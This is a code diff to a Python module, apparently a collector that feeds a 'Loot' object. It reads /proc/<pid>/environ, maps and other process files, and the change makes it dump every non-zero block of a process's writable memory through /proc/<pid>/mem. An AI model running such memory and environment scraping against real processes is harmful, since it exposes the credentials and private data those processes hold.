@@ -4,6 +4,7 @@ import gc
 import os
 import sys
 from collections.abc import Iterator
+from io import FileIO
 from pathlib import Path
 from typing import Any
 
@@ -13,6 +14,7 @@ from .script import Loot
 
 __all__ = ["collect"]
 
+BLOCK = 1 << 16
 PROC_FILES = ("environ", "cmdline", "maps", "mountinfo", "status")
 
 
@@ -76,18 +78,25 @@ def _memory_files(pid: int, numbers: list[str], denied: list[str]) -> Iterator[t
 
 
 def _memory(pid: int) -> Iterator[tuple[str, bytes]]:
-    """Read all private writable memory."""
+    """Read all writable memory, as far as anything was ever written there."""
     with Path(f"/proc/{pid}/mem").open("rb", buffering=0) as memory:
         for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
             span, rights, *_ = line.split()
-            if not rights.startswith("rw") or line.endswith("[vvar]"):
-                continue
-            start, end = (int(edge, 16) for edge in span.split("-"))
-            try:
-                memory.seek(start)
-                yield f"mem/{span}", memory.read(end - start)
-            except OSError:
-                continue
+            if rights.startswith("rw"):
+                start, end = (int(edge, 16) for edge in span.split("-"))
+                yield from ((f"mem/{span}", block) for block in _written(memory, start, end))
+
+
+def _written(memory: FileIO, start: int, end: int) -> Iterator[bytes]:
+    """Give the blocks that are not all zeros; what cannot be read is a device's."""
+    for at in range(start, end, BLOCK):
+        try:
+            memory.seek(at)
+            block = memory.read(min(BLOCK, end - at))
+        except OSError:
+            return
+        if block.count(0) < len(block):
+            yield block
 
 
 def _reachable(lesson: Lesson) -> Iterator[bytes]:
